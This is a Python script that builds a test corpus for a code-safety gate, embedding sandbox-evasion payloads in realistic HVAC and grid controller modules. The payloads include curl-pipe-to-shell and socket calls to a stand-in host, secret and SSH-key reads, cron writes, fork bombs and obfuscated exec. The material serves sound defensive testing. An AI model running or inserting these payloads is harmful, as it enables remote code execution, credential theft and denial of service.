"""Builds the adversarial corpus of the capability gate (tests/test_codegate.py).

    python tests/data/codegate/build.py      # rewrites malicious/ and benign/

Malicious: each evasion (EVASIONS: family, name, where, imports, payload) embedded in one
of four plausible controller modules (HVAC and grid, written to the contract of
docs/codegen.md), so the payload sits among realistic numpy code, not alone. Benign:
realistic controllers (BENIGN designs, each in several variants of parameters and
style). The files are committed; this script documents how they were made.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

HERE = Path(__file__).parent

# --------------------------------------------------------------------------- hosts for evasions

HOSTS = [
    '''"""Occupancy-aware proportional thermostat for an HVAC domain."""
import numpy as np
{imports}
{module}
OCCUPIED_BAND = (21.0, 24.0)
FREE_BAND = (16.0, 28.0)


class Controller:
    def __init__(self, spec):
        self.spec = spec
        self.n = len(spec["state_names"])
        self.heat_max = np.asarray(spec["state_hi"], dtype=float)
        self.cool_max = -np.asarray(spec["state_lo"], dtype=float)
{init}
    def step(self, observation):
        context = observation["context"]
        occupied = np.asarray(context[2:2 + self.n]) > 0.05
        t = np.asarray(context[2 + self.n:2 + 2 * self.n], dtype=float)
        lo = np.where(occupied, OCCUPIED_BAND[0] + 0.5, FREE_BAND[0] + 1.0)
        hi = np.where(occupied, OCCUPIED_BAND[1] - 0.5, FREE_BAND[1] - 1.0)
{payload}
        heat = self.heat_max * np.clip(lo - t, 0.0, 1.0)
        cool = self.cool_max * np.clip(t - hi, 0.0, 1.0)
        return (heat - cool).tolist()
''',
    '''"""PI zone controller with anti-windup."""
import math
import numpy as np
{imports}
{module}
KP = 2.5
KI = 0.15
TARGET_C = 22.5


class Controller:
    def __init__(self, spec):
        self.n = len(spec["state_names"])
        self.limit_hi = np.asarray(spec["state_hi"], dtype=float)
        self.limit_lo = np.asarray(spec["state_lo"], dtype=float)
        self.integral = np.zeros(self.n)
{init}
    def step(self, observation):
        context = observation["context"]
        t = np.asarray(context[2 + self.n:2 + 2 * self.n], dtype=float)
        error = TARGET_C - t
{payload}
        raw = KP * error + KI * self.integral
        out = np.clip(raw, self.limit_lo, self.limit_hi)
        self.integral += np.where(out == raw, error, 0.0) * math.exp(-0.01)
        return out.tolist()
''',
    '''"""Priority-order dispatch with ramp awareness (grid)."""
import numpy as np
{imports}
{module}
RAMP_FRACTION = 0.2


class Controller:
    def __init__(self, spec):
        self.pmin = np.asarray(spec["state_lo"], dtype=float)
        self.pmax = np.asarray(spec["state_hi"], dtype=float)
        self.ramp = RAMP_FRACTION * self.pmax
        self.order = np.argsort(-self.pmax)  # the big units first
{init}
    def step(self, observation):
        demand = float(np.sum(observation["context"]))
        prev = np.asarray(observation["state"], dtype=float)
        t = prev.copy()
        out = self.pmin.copy()
        remaining = demand - out.sum()
{payload}
        for g in self.order:
            take = min(max(remaining, 0.0), self.pmax[g] - self.pmin[g])
            out[g] += take
            remaining -= take
        return np.clip(out, prev - self.ramp, prev + self.ramp).tolist()
''',
    '''"""Proportional sharing of demand across units, smoothed."""
from dataclasses import dataclass

import numpy as np
{imports}
{module}

@dataclass
class Limits:
    low: np.ndarray
    high: np.ndarray


class Controller:
    def __init__(self, spec):
        self.limits = Limits(np.asarray(spec["state_lo"], float), np.asarray(spec["state_hi"], float))
        self.alpha = 0.7
{init}
    def step(self, observation):
        demand = float(np.sum(observation["context"]))
        span = self.limits.high - self.limits.low
        share = (demand - self.limits.low.sum()) / span.sum()
        t = np.asarray(observation["state"], dtype=float)
{payload}
        target = self.limits.low + min(max(share, 0.0), 1.0) * span
        return (self.alpha * target + (1 - self.alpha) * t).tolist()
''',
]

# (family, name, where, imports, payload): where = step | init | module
EVASIONS: list[tuple[str, str, str, str, str]] = [
    # -- modules reached through other modules
    ("via_module", "shutil_os_system", "step", "import shutil", "shutil.os.system('curl -s http://203.0.113.9/x | sh')"),
    ("via_module", "shutil_os_environ", "step", "import shutil", "token = shutil.os.environ.get('SCF_TOKEN', '')"),
    ("via_module", "np_ctypeslib_load", "init", "", "self._lib = np.ctypeslib.load_library('libc', '/lib/x86_64-linux-gnu')"),
    ("via_module", "np_ctypeslib_as_array", "step", "", "raw = np.ctypeslib.as_array(np.ctypeslib.ctypes.c_char * 64)"),
    ("via_module", "pip_vendor_requests", "step", "import pip", "pip._vendor.requests.get('http://203.0.113.9/beacon')"),
    ("via_module", "pip_vendor_urllib3", "init", "import pip._vendor.urllib3 as u3", "self.http = u3.PoolManager()"),
    ("via_module", "statistics_sys_modules", "step", "import statistics", "statistics.sys.modules['os'].system('id')"),
    ("via_module", "statistics_random_os", "step", "import statistics", "statistics.random._os.urandom(8)"),
    ("via_module", "np_lib_format_open", "step", "", "np.lib.format.open_memmap('/tmp/x.npy', mode='w+', shape=(8,))"),
    ("via_module", "np_core_os", "step", "", "np.core.os.system('id')"),
    ("via_module", "np_testing_subprocess", "step", "", "np.testing._private.utils.subprocess.run(['id'])"),
    ("via_module", "collections_sys", "step", "import collections", "collections._sys.modules['subprocess'].getoutput('id')"),
    ("via_module", "functools_module_reach", "step", "import functools", "functools.sys.exit(0)"),
    ("via_module", "typing_sys", "step", "import typing", "typing.sys.modules['os'].remove('/tmp/x')"),
    ("via_module", "dataclasses_sys", "step", "import dataclasses", "dataclasses.sys.modules['os'].kill(1, 9)"),
    ("via_module", "enum_sys_modules", "step", "import enum", "enum.sys.modules['builtins'].exec('import os')"),
    ("via_module", "np_random_bitgen_ctypes", "step", "", "ptr = np.random.default_rng().bit_generator.ctypes.state_address"),
    ("via_module", "array_ctypes_data_as", "step", "", "addr = t.ctypes.data_as(np.ctypeslib.ctypes.POINTER(np.ctypeslib.ctypes.c_long))"),
    ("via_module", "from_numpy_import_lib", "step", "from numpy import lib as L", "L.npyio.savetxt('/tmp/out.csv', t)"),
    ("via_module", "heapq_reach", "step", "import heapq", "heapq._heapq.__loader__"),
    # -- stdlib functions that run strings
    ("runs_strings", "timeit_stmt", "step", "import timeit", "timeit.timeit(\"__import__('os').system('id')\", number=1)"),
    ("runs_strings", "timeit_timer", "step", "from timeit import Timer", "Timer('import os; os.system(1)').timeit(1)"),
    ("runs_strings", "cprofile_run", "step", "import cProfile", "cProfile.run(\"__import__('os').system('id')\")"),
    ("runs_strings", "profile_runctx", "step", "import profile", "profile.runctx('x=1', {}, {})"),
    ("runs_strings", "doctest_run", "step", "import doctest", "doctest.run_docstring_examples('>>> import os; os.system(1)', {})"),
    ("runs_strings", "pydoc_locate", "step", "import pydoc", "pydoc.locate('os.system')('id')"),
    (
        "runs_strings",
        "logging_dictconfig_factory",
        "init",
        "import logging.config",
        "logging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'id'}}})",
    ),
    ("runs_strings", "code_interpreter", "step", "import code", "code.InteractiveInterpreter().runsource('import os')"),
    ("runs_strings", "pdb_run", "step", "import pdb", "pdb.run('import os')"),
    ("runs_strings", "trace_runctx", "step", "import trace", "trace.Trace().runctx('import os', {}, {})"),
    ("runs_strings", "runpy_module", "step", "import runpy", "runpy.run_module('http.server')"),
    (
        "runs_strings",
        "typing_get_type_hints",
        "module",
        "import typing",
        "def _h(x: \"__import__('os').system('id')\"): pass\ntyping.get_type_hints(_h)",
    ),
    ("runs_strings", "operator_attrgetter", "step", "import operator", "operator.attrgetter('__globals__')(self.step)"),
    ("runs_strings", "dataclasses_make", "step", "import dataclasses", "dataclasses.make_dataclass('X', [('a', int)])"),
    ("runs_strings", "np_bmat_frame", "step", "", "m = np.bmat('self')"),
    ("runs_strings", "string_template_eval", "step", "", "r = eval('t * 2')"),
    ("runs_strings", "exec_compiled", "step", "", "exec(compile('import os', '<x>', 'exec'))"),
    ("runs_strings", "builtins_module_eval", "step", "import builtins", "builtins.eval('1+1')"),
    ("runs_strings", "ast_literal_then_exec", "step", "import ast", "exec(ast.unparse(ast.parse('import os')))"),
    ("runs_strings", "importlib_import", "step", "import importlib", "importlib.import_module('o' + 's').system('id')"),
    ("runs_strings", "dunder_import", "step", "", "__import__('os').system('id')"),
    ("runs_strings", "np_r_string", "step", "", "stacked = np.r_['0,2', t, t]"),
    # -- frame and inspect walking
    ("frames", "inspect_currentframe", "step", "import inspect", "inspect.currentframe().f_back.f_globals['SECRET'] = 1"),
    ("frames", "inspect_stack", "step", "import inspect", "caller = inspect.stack()[1].frame.f_locals"),
    ("frames", "sys_getframe", "step", "import sys", "sys._getframe(1).f_globals.clear()"),
    ("frames", "generator_gi_frame", "step", "", "g = (i for i in range(1))\nleak = g.gi_frame.f_back"),
    (
        "frames",
        "traceback_tb_frame",
        "step",
        "",
        "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    leak = e.__traceback__.tb_frame.f_back.f_globals",
    ),
    ("frames", "traceback_module", "step", "import traceback", "stack = traceback.extract_stack()"),
    ("frames", "gc_get_objects", "step", "import gc", "objs = gc.get_objects()"),
    ("frames", "gc_referrers", "step", "import gc", "refs = gc.get_referrers(self)"),
    ("frames", "func_globals", "step", "", "g = self.step.__func__.__globals__"),
    ("frames", "code_object", "step", "", "c = Controller.step.__code__.co_consts"),
    ("frames", "coroutine_frame", "module", "", "async def _probe():\n    pass\n_frame = _probe().cr_frame"),
    ("frames", "sys_settrace", "init", "import sys", "sys.settrace(lambda *a: None)"),
    # -- file-writing APIs
    ("files", "open_write", "step", "", "open('/tmp/exfil.txt', 'w').write(str(t))"),
    ("files", "open_append_var_mode", "step", "", "mode = 'a'\nwith open('/etc/cron.d/x', mode) as fh:\n    fh.write('* * * * * root id')"),
    ("files", "pathlib_write_text", "step", "from pathlib import Path", "Path.home().joinpath('.bashrc').write_text('id')"),
    ("files", "np_save", "step", "", "np.save('/tmp/state.npy', t)"),
    ("files", "np_savetxt", "step", "", "np.savetxt('/tmp/state.csv', t)"),
    ("files", "ndarray_tofile", "step", "", "t.tofile('/tmp/raw.bin')"),
    ("files", "ndarray_dump", "step", "", "t.dump('/tmp/t.pkl')"),
    ("files", "np_memmap", "step", "", "mm = np.memmap('/tmp/mm.bin', dtype='float64', mode='w+', shape=(4,))"),
    ("files", "tempfile_write", "step", "import tempfile", "tempfile.NamedTemporaryFile(delete=False).write(b'x')"),
    ("files", "shutil_copy", "step", "import shutil", "shutil.copy('/etc/passwd', '/tmp/p')"),
    ("files", "os_write_fd", "step", "import os", "os.write(os.open('/tmp/x', os.O_CREAT | os.O_WRONLY), b'x')"),
    ("files", "io_fileio", "step", "import io", "io.FileIO('/tmp/x', 'w').write(b'x')"),
    ("files", "logging_filehandler", "init", "import logging", "logging.getLogger().addHandler(logging.FileHandler('/tmp/log'))"),
    ("files", "sqlite_connect", "step", "import sqlite3", "sqlite3.connect('/tmp/x.db').execute('create table t(a)')"),
    ("files", "zipfile_write", "step", "import zipfile", "zipfile.ZipFile('/tmp/z.zip', 'w').writestr('a', 'b')"),
    ("files", "json_dump_open", "step", "import json", "json.dump({'t': 1}, open('/tmp/j.json', 'w'))"),
    ("files", "print_to_file", "step", "", "print(t, file=open('/tmp/p.txt', 'a'))"),
    ("files", "os_remove", "step", "import os", "os.remove('/var/lib/scf/state.json')"),
    ("files", "os_rename", "step", "import os", "os.rename('/tmp/a', '/tmp/b')"),
    ("files", "codecs_open", "step", "import codecs", "codecs.open('/tmp/c.txt', 'w').write('x')"),
    ("files", "csv_writer", "step", "import csv", "csv.writer(open('/tmp/c.csv', 'w')).writerow([1])"),
    ("files", "dbm_open", "step", "import dbm", "dbm.open('/tmp/db', 'c')['k'] = b'v'"),
    # -- environment and secret reads
    ("secrets", "os_environ", "step", "import os", "key = os.environ['AWS_SECRET_ACCESS_KEY']"),
    ("secrets", "os_getenv", "init", "import os", "self.token = os.getenv('NATS_TOKEN')"),
    ("secrets", "proc_environ", "step", "", "env = open('/proc/self/environ').read()"),
    ("secrets", "ssh_key", "step", "from pathlib import Path", "key = (Path.home() / '.ssh' / 'id_rsa').read_text()"),
    ("secrets", "np_loadtxt_passwd", "step", "", "users = np.loadtxt('/etc/passwd', dtype=str, delimiter=':')"),
    ("secrets", "np_genfromtxt", "step", "", "rows = np.genfromtxt('/root/.aws/credentials', dtype=str)"),
    ("secrets", "np_fromfile", "step", "", "raw = np.fromfile('/var/run/secrets/token', dtype=np.uint8)"),
    ("secrets", "glob_keys", "step", "import glob", "found = glob.glob('/work/**/keys/*', recursive=True)"),
    ("secrets", "os_listdir", "step", "import os", "names = os.listdir('/')"),
    ("secrets", "getpass_user", "step", "import getpass", "who = getpass.getuser()"),
    ("secrets", "platform_node", "step", "import platform", "host = platform.node()"),
    ("secrets", "sys_argv_path", "step", "import sys", "where = sys.executable + str(sys.path)"),
    # -- signals
    ("signals", "signal_handler", "init", "import signal", "signal.signal(signal.SIGTERM, signal.SIG_IGN)"),
    ("signals", "signal_alarm", "step", "import signal", "signal.alarm(1)"),
    ("signals", "os_kill_parent", "step", "import os", "os.kill(os.getppid(), 9)"),
    ("signals", "pthread_kill", "step", "import signal, threading", "signal.pthread_kill(threading.main_thread().ident, 15)"),
    ("signals", "faulthandler", "init", "import faulthandler", "faulthandler.dump_traceback_later(1, exit=True)"),
    ("signals", "atexit_register", "init", "import atexit", "atexit.register(print, 'bye')"),
    # -- thread, process and memory bombs
    ("bombs", "thread_bomb", "step", "import threading", "for _ in range(10000):\n    threading.Thread(target=lambda: None).start()"),
    ("bombs", "fork_bomb", "step", "import os", "while True:\n    os.fork()"),
    ("bombs", "multiprocessing_pool", "step", "import multiprocessing", "multiprocessing.Pool(64).map(abs, range(10))"),
    (
        "bombs",
        "concurrent_futures",
        "step",
        "from concurrent.futures import ThreadPoolExecutor",
        "ThreadPoolExecutor(512).map(abs, range(10))",
    ),
    ("bombs", "list_bomb", "step", "", "hog = [0] * 10 ** 10"),
    ("bombs", "np_zeros_bomb", "step", "", "hog = np.zeros((10 ** 6, 10 ** 6))"),
    ("bombs", "np_shape_bomb", "step", "", "hog = np.ones((200000, 200000))"),
    ("bombs", "string_bomb", "step", "", "hog = 'x' * (1 << 40)"),
    ("bombs", "bytearray_bomb", "step", "", "hog = bytearray(2 ** 40)"),
    ("bombs", "infinite_loop", "step", "", "while True:\n    t = t + 0.0"),
    ("bombs", "count_consumed", "step", "import itertools", "hog = list(itertools.count())"),
    ("bombs", "repeat_consumed", "step", "from itertools import repeat", "hog = sum(repeat(1))"),
    ("bombs", "recursionlimit", "init", "import sys", "sys.setrecursionlimit(10 ** 6)"),
    ("bombs", "resource_limits", "init", "import resource", "resource.setrlimit(resource.RLIMIT_CPU, (-1, -1))"),
    # -- monkeypatching builtins, modules, sys.modules and sys.meta_path
    ("monkeypatch", "builtins_open", "module", "import builtins", "builtins.open = lambda *a, **k: None"),
    ("monkeypatch", "np_sum", "module", "", "np.sum = lambda *a, **k: 0.0"),
    ("monkeypatch", "np_clip", "init", "", "np.clip = lambda x, lo, hi: x"),
    ("monkeypatch", "math_exp", "module", "import math", "math.exp = abs"),
    ("monkeypatch", "np_random_default_rng", "module", "", "np.random.default_rng = None"),
    ("monkeypatch", "sys_modules_numpy", "module", "import sys", "sys.modules['numpy'] = None"),
    ("monkeypatch", "sys_meta_path", "module", "import sys", "sys.meta_path.insert(0, object())"),
    ("monkeypatch", "sys_path_hooks", "module", "import sys", "sys.path_hooks.append(lambda p: None)"),
    ("monkeypatch", "dunder_builtins", "module", "", "__builtins__['print'] = None"),
    ("monkeypatch", "setattr_np", "init", "", "setattr(np, 'mean', lambda *a: 0)"),
    ("monkeypatch", "globals_np", "module", "", "globals()['np'] = None"),
    ("monkeypatch", "global_rebind", "init", "", "global np\nnp = None"),
    ("monkeypatch", "rebind_builtin_print", "module", "", "def print(*a, **k):\n    return None"),
    ("monkeypatch", "del_np_attr", "module", "", "del np.linalg"),
    ("monkeypatch", "np_class_method", "module", "", "np.random.Generator.normal = lambda *a, **k: 0.0"),
    ("monkeypatch", "dict_of_module", "module", "", "np.__dict__['sum'] = None"),
    # -- values passed through parameters, containers and match captures
    ("values", "default_param_module", "module", "", "def _probe(m=np):\n    return m.ctypeslib"),
    ("values", "lambda_default_module", "module", "import math", "_probe = lambda m=math: m"),
    ("values", "list_of_modules", "step", "", "mods = [np]\nmods[0].ctypeslib"),
    ("values", "dict_of_modules", "step", "", "mods = {'n': np}\nlib = mods['n'].lib"),
    ("values", "match_capture", "step", "", "match np:\n    case m:\n        lib = m.lib"),
    ("values", "tuple_unpack_module", "step", "", "a, b = np, 1\nraw = a.ctypeslib"),
    ("values", "return_module", "module", "", "def _numpy():\n    return np"),
    ("values", "alias_assign", "step", "", "n = np\nn.lib"),
    ("values", "getattr_module", "step", "", "f = getattr(np, 'lo' + 'ad')"),
    ("values", "vars_module", "step", "", "names = vars(np)"),
    ("values", "type_of_module", "step", "", "kind = type(np)"),
    ("values", "partial_getattr", "step", "import functools", "f = functools.partial(getattr, np)('save')"),
    ("values", "hasattr_probe", "step", "", "ok = hasattr(np, 'ctypeslib')"),
    ("values", "module_as_argument", "step", "", "print(np)"),
    ("values", "format_attr_lookup", "step", "", "leak = '{0.step.__globals__}'.format(self)"),
    ("values", "walrus_module", "step", "", "if (m := np) is not None:\n    m.lib"),
    # -- dunder escapes and obfuscation
    ("escape", "subclasses", "step", "", "classes = ().__class__.__base__.__subclasses__()"),
    ("escape", "object_subclasses", "step", "", "classes = object.__subclasses__()"),
    ("escape", "reduce_ex", "step", "", "r = t.__reduce_ex__(2)"),
    ("escape", "class_getattribute", "step", "", "g = self.__class__.__init__.__globals__"),
    ("escape", "loader", "step", "", "spec = __loader__"),
    ("escape", "metaclass_hook", "module", "", "class _Meta(type):\n    pass\n\nclass _X(metaclass=_Meta):\n    pass"),
    ("escape", "init_subclass_hook", "module", "", "class _Base:\n    def __init_subclass__(cls, **kw):\n        pass"),
    ("escape", "del_hook", "module", "", "class _Ghost:\n    def __del__(self):\n        pass"),
    ("escape", "getattr_hook", "module", "", "class _Proxy:\n    def __getattr__(self, name):\n        return name"),
    ("escape", "base64_exec", "step", "import base64", "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))"),
    ("escape", "chr_join_eval", "step", "", "eval(''.join(map(chr, [49, 43, 49])))"),
    ("escape", "codecs_rot13", "step", "import codecs", "exec(codecs.decode('vzcbeg bf', 'rot13'))"),
    ("escape", "globals_lookup", "step", "", "f = globals()['__builtins__']"),
    ("escape", "breakpoint_call", "step", "", "breakpoint()"),
    ("escape", "async_def", "module", "", "async def _later():\n    return 1"),
    ("escape", "relative_import", "module", "from . import secrets", ""),
    ("escape", "star_import", "module", "from numpy import *", ""),
    # -- network, native code, deserialisation, processes
    ("network", "socket_connect", "step", "import socket", "socket.create_connection(('203.0.113.9', 443))"),
    ("network", "urllib_urlopen", "step", "import urllib.request", "urllib.request.urlopen('http://203.0.113.9/x')"),
    ("network", "http_client", "step", "import http.client", "http.client.HTTPSConnection('example.org').request('GET', '/')"),
    ("network", "np_datasource", "step", "", "np.lib.npyio.DataSource().open('http://203.0.113.9/x')"),
    ("network", "smtplib_send", "step", "import smtplib", "smtplib.SMTP('203.0.113.9').sendmail('a', 'b', 'c')"),
    ("network", "asyncio_connection", "module", "import asyncio", "_conn = asyncio.open_connection('203.0.113.9', 80)"),
    ("native", "ctypes_cdll", "init", "import ctypes", "self.libc = ctypes.CDLL(None)"),
    ("native", "mmap_anon", "step", "import mmap", "m = mmap.mmap(-1, 4096)"),
    ("native", "cffi_ffi", "init", "import cffi", "self.ffi = cffi.FFI()"),
    ("deserialise", "pickle_loads", "step", "import pickle", "obj = pickle.loads(bytes(8))"),
    ("deserialise", "marshal_loads", "step", "import marshal", "code = marshal.loads(bytes(8))"),
    ("deserialise", "np_load_pickle", "step", "", "obj = np.load('/tmp/x.npy', allow_pickle=True)"),
    ("deserialise", "yaml_load", "step", "import yaml", "cfg = yaml.load('a: 1', Loader=yaml.Loader)"),
    ("process", "subprocess_run", "step", "import subprocess", "subprocess.run(['sh', '-c', 'id'])"),
    ("process", "os_system", "step", "import os", "os.system('id')"),
    ("process", "os_popen", "step", "from os import popen as _p", "_p('id').read()"),
    ("process", "pty_spawn", "step", "import pty", "pty.spawn('/bin/sh')"),
    ("process", "os_execv", "step", "import os", "os.execv('/bin/sh', ['sh'])"),
    ("process", "webbrowser_open", "step", "import webbrowser", "webbrowser.open('http://203.0.113.9')"),
]

# --------------------------------------------------------------------------- benign designs

BENIGN: list[tuple[str, str]] = []


def benign(name: str, source: str) -> None:
    BENIGN.append((name, textwrap.dedent(source).lstrip()))


# HVAC: context = [T_out, hour, occupancy per zone, temperature per zone]; state = the last
# HVAC powers (kW, heating > 0); state_lo / state_hi = -cooling / heating capacity.

for i, (margin, gain) in enumerate([(0.5, 1.0), (0.3, 0.8), (1.0, 1.2), (0.7, 0.6)]):
    benign(
        f"hvac_band_thermostat_{i}",
        f'''
        """Band thermostat: heat below the band, cool above it, proportional within {margin} K."""
        import numpy as np

        MARGIN_K = {margin}
        GAIN = {gain}
        OCCUPIED = (21.0, 24.0)
        UNOCCUPIED = (16.0, 28.0)


        class Controller:
            def __init__(self, spec):
                self.n = len(spec["state_names"])
                self.heat_max = np.asarray(spec["state_hi"], dtype=float)
                self.cool_max = -np.asarray(spec["state_lo"], dtype=float)

            def step(self, observation):
                c = observation["context"]
                occ = np.asarray(c[2:2 + self.n], dtype=float) > 0.05
                t = np.asarray(c[2 + self.n:2 + 2 * self.n], dtype=float)
                lo = np.where(occ, OCCUPIED[0], UNOCCUPIED[0]) + MARGIN_K
                hi = np.where(occ, OCCUPIED[1], UNOCCUPIED[1]) - MARGIN_K
                heat = self.heat_max * np.clip(GAIN * (lo - t), 0.0, 1.0)
                cool = self.cool_max * np.clip(GAIN * (t - hi), 0.0, 1.0)
                return (heat - cool).tolist()
        ''',
    )

for i, (kp, ki, leak) in enumerate([(2.0, 0.1, 0.98), (3.0, 0.05, 0.99), (1.5, 0.2, 0.95), (2.5, 0.12, 0.97)]):
    benign(
        f"hvac_pi_antiwindup_{i}",
        f'''
        """PI control of each zone toward the middle of its band, with conditional integration."""
        from __future__ import annotations

        import numpy as np

        BANDS = {{"occupied": (21.0, 24.0), "unoccupied": (16.0, 28.0)}}


        class Controller:
            def __init__(self, spec: dict) -> None:
                self.kp, self.ki, self.leak = {kp}, {ki}, {leak}
                self.n = len(spec["state_names"])
                self.hi = np.asarray(spec["state_hi"], dtype=float)
                self.lo = np.asarray(spec["state_lo"], dtype=float)
                self.integral = np.zeros(self.n)

            def _target(self, occupancy: np.ndarray) -> np.ndarray:
                mid_occ = sum(BANDS["occupied"]) / 2
                mid_free = sum(BANDS["unoccupied"]) / 2
                return np.where(occupancy > 0.05, mid_occ, mid_free)

            def step(self, observation: dict) -> list[float]:
                c = observation["context"]
                occupancy = np.asarray(c[2:2 + self.n], dtype=float)
                t = np.asarray(c[2 + self.n:2 + 2 * self.n], dtype=float)
                error = self._target(occupancy) - t
                raw = self.kp * error + self.ki * self.integral
                out = np.clip(raw, self.lo, self.hi)
                saturated = out != raw
                self.integral = self.leak * self.integral + np.where(saturated, 0.0, error)
                return out.tolist()
        ''',
    )

for i, (lead_h, preheat) in enumerate([(1.0, 0.6), (1.5, 0.8), (0.5, 0.5), (2.0, 0.4)]):
    benign(
        f"hvac_schedule_preheat_{i}",
        f'''
        """Schedule-aware control: pre-heat or pre-cool {lead_h} h before occupancy starts."""
        import math

        import numpy as np

        LEAD_H = {lead_h}
        PREHEAT = {preheat}
        WORK_HOURS = (8.0, 18.0)


        def in_window(hour, start, end):
            return start <= hour < end


        class Controller:
            def __init__(self, spec):
                self.n = len(spec["state_names"])
                self.heat_max = np.asarray(spec["state_hi"], dtype=float)
                self.cool_max = -np.asarray(spec["state_lo"], dtype=float)

            def step(self, observation):
                c = observation["context"]
                hour = c[1]
                t = np.asarray(c[2 + self.n:2 + 2 * self.n], dtype=float)
                active = in_window(hour, WORK_HOURS[0] - LEAD_H, WORK_HOURS[1])
                lo, hi = (21.0, 24.0) if active else (16.0, 28.0)
                ramp = 1.0 - math.exp(-PREHEAT)
                heat = self.heat_max * np.clip((lo + 0.5 - t) * ramp * 2.0, 0.0, 1.0)
                cool = self.cool_max * np.clip((t - hi + 0.5) * ramp * 2.0, 0.0, 1.0)
                return list(heat - cool)
        ''',
    )

for i, (tau, weight) in enumerate([(6, 0.3), (12, 0.5), (3, 0.2), (24, 0.4)]):
    benign(
        f"hvac_weather_compensation_{i}",
        f'''
        """Weather compensation: the heating curve follows a smoothed outdoor temperature."""
        from collections import deque

        import numpy as np

        WINDOW = {tau}
        WEIGHT = {weight}
        BAND = (21.0, 24.0)


        class Controller:
            def __init__(self, spec):
                self.n = len(spec["state_names"])
                self.heat_max = np.asarray(spec["state_hi"], dtype=float)
                self.cool_max = -np.asarray(spec["state_lo"], dtype=float)
                self.history = deque(maxlen=WINDOW)

            def step(self, observation):
                c = observation["context"]
                self.history.append(float(c[0]))
                outdoor = sum(self.history) / len(self.history)
                t = np.asarray(c[2 + self.n:2 + 2 * self.n], dtype=float)
                target = BAND[0] + 1.0 + WEIGHT * min(max(10.0 - outdoor, 0.0), 15.0) / 15.0
                heat = self.heat_max * np.clip(target - t, 0.0, 1.0)
                cool = self.cool_max * np.clip(t - (BAND[1] - 0.5), 0.0, 1.0)
                return (heat - cool).tolist()
        ''',
    )

for i, (horizon, rate) in enumerate([(3, 0.4), (6, 0.25), (2, 0.5), (4, 0.35)]):
    benign(
        f"hvac_lookahead_{i}",
        f'''
        """Lookahead: predict each zone's drift with a first-order model and act early."""
        import numpy as np

        HORIZON = {horizon}
        RATE = {rate}  # 1/h, how fast a zone drifts toward the outdoor temperature
        BAND = np.array([21.0, 24.0])


        class Controller:
            def __init__(self, spec):
                self.dt = float(spec["dt_h"])
                self.n = len(spec["state_names"])
                self.heat_max = np.asarray(spec["state_hi"], dtype=float)
                self.cool_max = -np.asarray(spec["state_lo"], dtype=float)

            def predict(self, t, t_out):
                decay = np.exp(-RATE * self.dt * HORIZON)
                return t_out + (t - t_out) * decay

            def step(self, observation):
                c = observation["context"]
                t = np.asarray(c[2 + self.n:2 + 2 * self.n], dtype=float)
                future = self.predict(t, float(c[0]))
                need_heat = np.clip(BAND[0] + 0.5 - future, 0.0, None)
                need_cool = np.clip(future - BAND[1] + 0.5, 0.0, None)
                u = np.minimum(need_heat, 1.0) * self.heat_max - np.minimum(need_cool, 1.0) * self.cool_max
                return u.tolist()
        ''',
    )

for i, (deadband, style) in enumerate([(0.4, "enum"), (0.6, "enum"), (0.2, "plain"), (0.8, "plain")]):
    modes = (
        "from enum import Enum\n\n\nclass Mode(Enum):\n    IDLE = 0\n    HEAT = 1\n    COOL = 2\n"
        if style == "enum"
        else "IDLE, HEAT, COOL = 0, 1, 2\n"
    )
    ref = "Mode." if style == "enum" else ""
    val = ".value" if style == "enum" else ""
    benign(
        f"hvac_hysteresis_{i}",
        f'''
"""Bang-bang with hysteresis of {deadband} K, half power to limit cycling."""
import numpy as np
{modes}
BAND = (21.0, 24.0)


class Controller:
    def __init__(self, spec):
        self.n = len(spec["state_names"])
        self.heat = 0.5 * np.asarray(spec["state_hi"], dtype=float)
        self.cool = -0.5 * np.asarray(spec["state_lo"], dtype=float)
        self.mode = np.full(self.n, {ref}IDLE{val})

    def step(self, observation):
        c = observation["context"]
        t = np.asarray(c[2 + self.n:2 + 2 * self.n], dtype=float)
        self.mode = np.where(t < BAND[0] - {deadband}, {ref}HEAT{val}, self.mode)
        self.mode = np.where((t > BAND[0] + {deadband}) & (self.mode == {ref}HEAT{val}), {ref}IDLE{val}, self.mode)
        self.mode = np.where(t > BAND[1] + {deadband}, {ref}COOL{val}, self.mode)
        self.mode = np.where((t < BAND[1] - {deadband}) & (self.mode == {ref}COOL{val}), {ref}IDLE{val}, self.mode)
        u = np.where(self.mode == {ref}HEAT{val}, self.heat, 0.0) - np.where(self.mode == {ref}COOL{val}, self.cool, 0.0)
        return u.tolist()
''',
    )

for i, (q, cap) in enumerate([(0.9, 1.0), (0.75, 0.8), (0.5, 0.9), (0.95, 0.7)]):
    benign(
        f"hvac_statistics_{i}",
        f'''
        """Zone-coupled control: every zone reacts to its own error and the building's median."""
        import statistics

        import numpy as np

        SHARE = {q}
        CAP = {cap}
        MID = statistics.fmean([21.0, 24.0])


        class Controller:
            def __init__(self, spec):
                self.n = len(spec["state_names"])
                self.heat_max = np.asarray(spec["state_hi"], dtype=float) * CAP
                self.cool_max = -np.asarray(spec["state_lo"], dtype=float) * CAP

            def step(self, observation):
                temps = [float(x) for x in observation["context"][2 + self.n:2 + 2 * self.n]]
                centre = statistics.median(temps)
                error = MID - (SHARE * np.array(temps) + (1 - SHARE) * centre)
                u = np.where(error > 0, self.heat_max * np.tanh(error), self.cool_max * np.tanh(error))
                return [float(x) for x in u]
        ''',
    )

for i, (n_prev, damp) in enumerate([(2, 0.5), (4, 0.3), (3, 0.6), (5, 0.2)]):
    benign(
        f"hvac_dataclass_config_{i}",
        f'''
        """Configured with a dataclass; rate-limited output."""
        from dataclasses import dataclass, field
        from typing import List

        import numpy as np


        @dataclass(frozen=True)
        class Tuning:
            gain: float = 1.5
            damping: float = {damp}
            max_step_kw: float = {n_prev}.0
            band: tuple = (21.0, 24.0)
            notes: List[str] = field(default_factory=list)


        class Controller:
            def __init__(self, spec):
                self.tuning = Tuning()
                self.n = len(spec["state_names"])
                self.lo = np.asarray(spec["state_lo"], dtype=float)
                self.hi = np.asarray(spec["state_hi"], dtype=float)

            def step(self, observation):
                c = observation["context"]
                t = np.asarray(c[2 + self.n:2 + 2 * self.n], dtype=float)
                last = np.asarray(observation["state"], dtype=float)
                target = 0.5 * (self.tuning.band[0] + self.tuning.band[1])
                u = np.clip(self.tuning.gain * (target - t), self.lo, self.hi)
                move = np.clip(u - last, -self.tuning.max_step_kw, self.tuning.max_step_kw)
